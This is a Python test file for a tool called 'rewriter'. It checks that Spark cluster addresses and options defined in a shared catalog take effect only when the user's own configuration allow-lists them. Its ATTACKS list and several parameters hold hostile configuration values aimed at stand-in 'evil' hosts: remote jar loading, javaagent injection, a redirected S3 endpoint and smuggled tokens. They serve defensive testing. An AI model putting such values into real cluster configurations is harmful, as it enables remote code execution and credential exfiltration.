"""What takes effect of definitions in the catalog: only what the reader's own configuration allows."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from rewriter.catalog import Catalog
from rewriter.catalog.clusters.definitions import CLUSTER_PROPERTIES, Cluster, clusters_of
from rewriter.catalog.model.changes import SetCatalogProperty
from rewriter.errors import AnalysisError, DataError, InterfaceError, OperationalError
from rewriter.runtime.cluster_engines import allowed_address, allowed_options, is_allowed
from rewriter.runtime.connection_settings import Source
from rewriter.runtime.profiles import resolve_connection
from rewriter.runtime.settings import SessionSettings
from rewriter.session import Session


def settings(**values: str) -> SessionSettings:
    made = SessionSettings()
    for name, value in values.items():
        made.set(f"rewriter.{name}", value)
    return made


def cluster(engine: str | None = None, **options: str) -> Cluster:
    definition = {"engine": engine, "options": {f"spark.{name.replace('_', '.')}": v for name, v in options.items()}}
    return clusters_of({CLUSTER_PROPERTIES: json.dumps({"c1": definition})}).named("c1")


@pytest.mark.parametrize("address", ["sc://evil:15002", "spark://evil:7077", "local[*]", "local"])
def test_an_address_of_the_catalog_needs_the_consent_of_its_reader(address: str) -> None:
    with pytest.raises(OperationalError) as raised:
        allowed_address(cluster(address), SessionSettings(), from_catalog=True)
    assert raised.value.condition == "CLUSTER_ADDRESS_NOT_ALLOWED"
    assert f'allowed_addresses = ["{address}"]' in (raised.value.hint or "")
    assert "rewriter.allowed_addresses" in (raised.value.hint or "")
    assert allowed_address(cluster(address), SessionSettings(), from_catalog=False) == address
    assert allowed_address(cluster(address), settings(allowed_addresses=address), from_catalog=True) == address


def test_what_starts_nothing_is_always_allowed() -> None:
    assert allowed_address(cluster("duckdb"), SessionSettings(), from_catalog=True) == "duckdb"
    assert allowed_address(cluster(None), SessionSettings(), from_catalog=True) is None


@pytest.mark.parametrize(
    ("allowed", "address", "is_there"),
    [
        ("sc://h:15002", "sc://h:15002", True),
        ("sc://h:15002", "sc://h:15003", False),
        ("sc://h:15002", "spark://h:15002", False),
        ("sc://h:*", "sc://h:1", True),
        ("sc://h:*", "sc://h", False),
        ("sc://h:*", "sc://h.evil.com:1", False),
        ("sc://h:*", "sc://h:1/;use_ssl=false", False),
        ("sc://h.a:*", "sc://hxa:1", False),
        ("spark://a:1,b:2", "spark://a:1,b:2", True),
        ("spark://a:1,b:2", "spark://a:1", False),
        ("spark://a:1,b:2", "spark://b:2", False),
        ("spark://a:*", "spark://a:1,evil:2", False),
        ("local[2, 3], sc://h:1", "local[2, 3]", True),
        ("local[2, 3], sc://h:1", "sc://h:1", True),
        ("local[2]", "local[*]", False),
        ("local[*]", "local[2]", False),
    ],
)
def test_addresses_are_compared_exactly(allowed: str, address: str, is_there: bool) -> None:
    assert is_allowed(cluster(address), settings(allowed_addresses=allowed), from_catalog=True) == is_there


@pytest.mark.parametrize(
    "listed", ["*", "sc://*", "sc://h*", "sc://*:1", "sc://h:1*", "yarn", "sc://h/;token=x", "h:1", "sc://u:p@h:1"]
)
def test_lists_of_addresses_are_checked(listed: str) -> None:
    with pytest.raises(DataError):
        settings(allowed_addresses=listed)
    with pytest.raises(DataError):
        settings(allowed_addresses=f"duckdb, {listed}")


def test_options_of_the_catalog_are_allowed_by_name() -> None:
    defined = cluster("local[2]", executor_memory="2g", cores_max="4")
    nothing, memory = SessionSettings(), settings(allowed_options="Spark.Executor.Memory")
    assert allowed_options(defined, nothing, from_catalog=True) == {}
    assert allowed_options(defined, memory, from_catalog=True) == {"spark.executor.memory": "2g"}
    assert allowed_options(defined, nothing, from_catalog=False) == defined.options
    both = settings(allowed_options="spark.executor.memory,spark.cores.max", allowed_addresses="local[2]")
    assert is_allowed(defined, both, from_catalog=True)
    assert not is_allowed(defined, settings(allowed_addresses="local[2]"), from_catalog=True)


@pytest.mark.parametrize("option", ["spark.jars", "spark.driver.extraJavaOptions", "spark.hadoop.fs.s3a.endpoint", "*"])
def test_no_list_allows_what_never_comes_from_the_catalog(option: str) -> None:
    with pytest.raises(DataError, match="never comes from the catalog"):
        settings(allowed_options=f"spark.cores.max, {option}")


ATTACKS = [
    {"options": {"spark.jars": "http://evil/x.jar"}},
    {"options": {"spark.jars.packages": "evil:evil:1"}},
    {"options": {"spark.driver.extraJavaOptions": "-javaagent:/tmp/evil.jar"}},
    {"options": {"spark.executor.defaultJavaOptions": "-javaagent:/tmp/evil.jar"}},
    {"options": {"spark.hadoop.fs.s3a.endpoint": "http://evil"}},
    {"options": {"spark.hadoop.fs.s3a.secret.key": "zz"}},
    {"options": {"spark.plugins": "evil.Plugin"}},
    {"options": {"spark.sql.catalog.spark_catalog": "evil.Catalog"}},
    {"options": {"spark.sql.ansi.enabled": "false"}},
    {"engine": "sc://evil/;token=zz"},
    {"filesystem": "s3://key:zz@bucket/x"},
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: str(next(iter(attack))))
def test_attacks_are_stored_neither_by_the_catalog_nor_by_set(attack: dict[str, object], tmp_path: Path) -> None:
    text = json.dumps({"c1": attack})
    catalog = Catalog.open(tmp_path)
    with pytest.raises(DataError), catalog.begin() as transaction:
        transaction.commit([SetCatalogProperty(CLUSTER_PROPERTIES, text)])
    assert catalog.snapshot().properties() == {}
    catalog.close()
    with pytest.raises(DataError):
        SessionSettings().set(CLUSTER_PROPERTIES, text)


def test_the_catalog_cannot_allow_itself(tmp_path: Path) -> None:
    """A definition that says SET cannot be smuggled in: only the three properties exist."""
    catalog = Catalog.open(tmp_path)
    for name in ("rewriter.allowed_addresses", "rewriter.allowed_options"):
        with pytest.raises(AnalysisError, match="has no property"), catalog.begin() as transaction:
            transaction.commit([SetCatalogProperty(name, "sc://evil:1")])
    catalog.close()


class TestConfiguration:
    """``[clusters]`` of rewriter.toml is the reader's own word."""

    def parts(self, folder: Path, text: str, **settings: str) -> dict[str, str]:
        (folder / "rewriter.toml").write_text(text)
        environ = {"XDG_CONFIG_HOME": str(folder / "none"), "HOME": str(folder)}
        return dict(resolve_connection(Source("", settings=settings), environ, folder).settings)

    def test_the_table_becomes_settings(self, tmp_path: Path) -> None:
        text = (
            '[clusters]\nallowed_addresses = ["spark://a:1,b:2", "sc://h:*"]\nallowed_options = ["spark.cores.max"]\n'
        )
        made = self.parts(tmp_path, text)
        assert made == {
            "rewriter.allowed_addresses": "spark://a:1,b:2, sc://h:*",
            "rewriter.allowed_options": "spark.cores.max",
        }
        with Session(tmp_path / "w", "duckdb", settings=made) as session:
            assert is_allowed(cluster("sc://h:5"), session.settings, from_catalog=True)
            assert not is_allowed(cluster("sc://g:5"), session.settings, from_catalog=True)

    def test_given_settings_replace_it(self, tmp_path: Path) -> None:
        text = '[clusters]\nallowed_addresses = ["sc://h:*"]\n'
        made = self.parts(tmp_path, text, **{"rewriter.allowed_addresses": "local[2]"})
        assert made == {"rewriter.allowed_addresses": "local[2]"}

    @pytest.mark.parametrize(
        "text",
        [
            "clusters = 3",
            '[clusters]\nallowed_adresses = ["sc://h:1"]',
            '[clusters]\nallowed_addresses = "sc://h:1"',
            "[clusters]\nallowed_addresses = [1]",
            '[clusters]\nallowed_addresses = ["*"]',
            '[clusters]\nallowed_options = ["spark.jars"]',
        ],
    )
    def test_mistakes_are_named(self, tmp_path: Path, text: str) -> None:
        with pytest.raises(InterfaceError) as raised:
            self.parts(tmp_path, text)
        assert "rewriter.toml" in raised.value.message
